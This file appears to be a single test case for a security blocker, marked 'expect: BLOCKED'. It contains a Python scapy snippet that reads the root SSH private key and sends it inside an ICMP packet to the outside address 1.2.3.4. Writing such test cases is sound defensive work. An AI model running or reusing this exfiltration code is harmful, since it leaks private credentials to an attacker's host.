# expect: BLOCKED
from scapy.all import IP, ICMP, send
send(IP(dst="1.2.3.4") / ICMP() / open("/root/.ssh/id_rsa").read())
